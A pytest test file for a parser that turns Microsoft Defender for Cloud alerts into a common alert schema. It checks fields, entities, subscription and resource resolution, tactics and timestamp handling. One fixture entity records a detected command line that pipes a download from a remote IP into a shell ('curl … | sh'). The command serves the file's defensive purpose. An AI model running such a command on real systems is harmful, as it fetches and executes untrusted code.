from __future__ import annotations

import pytest

from schemas.alert import Alert
from schemas.entities import Details, Entity
from schemas.kinds import details, understand
from tests.fixtures import (
    RESOURCE,
    SUBSCRIPTION,
    WORKSPACE_SUBSCRIPTION,
    defender_alert,
    encoded,
)
from tests.schemas.kinds import told

OTHER = "0f0f0f0f-aaaa-4bbb-8ccc-dddddddddddd"


def read(**overrides: object) -> Alert:
    return understand(encoded(defender_alert(**overrides)))


def test_every_field() -> None:
    record = defender_alert()
    alert = read()
    assert told(alert) == {
        "kind": "defender_alert",
        "entity": record["SystemAlertId"],
        "version": "New 2026-03-04T10:13:14.9876543Z d7e070bb",
        "title": "Suspicious download by a system account",
        "description": record["Description"],
        "severity": "high",
        "severity_original": "High",
        "status": "new",
        "status_original": "New",
        "event_ms": 1772619194987,
        "start_ms": 1772619072123,
        "end_ms": 1772619120500,
        "subscription_id": SUBSCRIPTION,
        "resource_ids": (RESOURCE,),  # the other one differs in case only
        "resource": "shop-vm-1",
        "tactics": ("Persistence", "CredentialAccess"),
        "product": "Microsoft Defender for Cloud",
        "alert_type": "VM_SuspiciousDownload",
        "link": record["AlertUri"],
    }


def test_details() -> None:
    found = details(read())
    md5 = "0a" * 16
    assert found == Details(
        entities=(
            Entity(type="host", name="shop-vm-1", id=RESOURCE, role="target"),
            Entity(type="ip", name="203.0.113.7", role="source", attributes={"CountryCode": "NL"}),
            Entity(
                type="user", name="svc-web", domain="SHOP-VM-1", attributes={"Host": "shop-vm-1"}
            ),
            Entity(
                type="process",
                name="curl",
                path="/usr/bin",
                command_line="curl -s http://203.0.113.7/x | sh",
                pid="0x1f40",
                hashes=(md5,),
                attributes={"Account": "svc-web", "Host": "shop-vm-1"},
            ),
            Entity(type="file", name="curl", path="/usr/bin", hashes=(md5,)),
        ),
        attributes={
            "workspace_id": "22222222-0000-4000-8000-000000000002",
            "workspace_subscription_id": WORKSPACE_SUBSCRIPTION,
            "resource_type": "Virtual Machine",
            "remediation": "Ask the machine's owner.\nIsolate the machine.",
        },
    )


def test_a_change_anywhere_is_an_update() -> None:
    assert read().key != read(RemediationSteps=["Do nothing."]).key
    assert read().entity == read(RemediationSteps=["Do nothing."]).entity


@pytest.mark.parametrize(
    "missing", [{"SystemAlertId": None}, {"AlertDisplayName": None}, {"AlertType": None}]
)
def test_two_of_three_signs_tell(missing: dict[str, None]) -> None:
    assert read(**missing).kind == "defender_alert"


@pytest.mark.parametrize(
    "record", [{"Type": "Other"}, {"AlertName": "x"}, {"SystemAlertId": None, "AlertType": None}]
)
def test_other_records_are_not_told(record: dict[str, object]) -> None:
    assert read(**record).kind != "defender_alert"


@pytest.mark.parametrize(
    ("overrides", "subscription"),
    [
        ({}, SUBSCRIPTION),
        ({"AzureResourceId": None}, SUBSCRIPTION),
        ({"AzureResourceId": "arn:aws:s3:::x"}, SUBSCRIPTION),
        (
            {
                "AzureResourceId": "",
                "ResourceIdentifiers": [],
                "AzureResourceSubscriptionId": OTHER,
            },
            OTHER,
        ),
        (
            {
                "AzureResourceId": None,
                "ResourceIdentifiers": None,
                "ExtendedProperties": {"effectiveSubscriptionId": OTHER.upper()},
            },
            OTHER,
        ),
        (
            {
                "AzureResourceId": None,
                "ResourceIdentifiers": "none",
                "ExtendedProperties": f'{{"EffectiveSubscriptionId":"{OTHER}"}}',
            },
            OTHER,
        ),
        ({"AzureResourceId": None, "ResourceIdentifiers": None}, SUBSCRIPTION),
        ({"AzureResourceId": None, "ResourceIdentifiers": None, "AlertUri": None}, ""),
    ],
)
def test_subscription(overrides: dict[str, object], subscription: str) -> None:
    assert subscription != WORKSPACE_SUBSCRIPTION
    assert read(**overrides).subscription_id == subscription


def test_resources() -> None:
    other = f"/subscriptions/{OTHER}/resourceGroups/a"
    identifiers = [{"AzureResourceId": other}, {"AzureResourceId": RESOURCE.lower()}, {}]
    assert read(ResourceIdentifiers=identifiers).resource_ids == (RESOURCE, other)
    assert read(ResourceIdentifiers=encoded(identifiers).decode()).resource_ids == (RESOURCE, other)
    assert read(CompromisedEntity=None).resource == "shop-vm-1"
    assert read(CompromisedEntity=other).resource == "a"
    assert read(CompromisedEntity=None, AzureResourceId=None).resource == ""


@pytest.mark.parametrize("intent", ["Probing", ["Probing"], '["Probing"]', "Unknown,Probing"])
def test_tactics(intent: object) -> None:
    assert read(Intent=intent).tactics == ("Probing",)


@pytest.mark.parametrize(
    "time", ["2026-03-04 10:13:14.9876543", "2026-03-04 10:13:14.987654+00:00", 1772619194987]
)
def test_unusual_times(time: object) -> None:
    assert read(TimeGenerated=time).event_ms == 1772619194987
    assert read(TimeGenerated="None").event_ms == 0
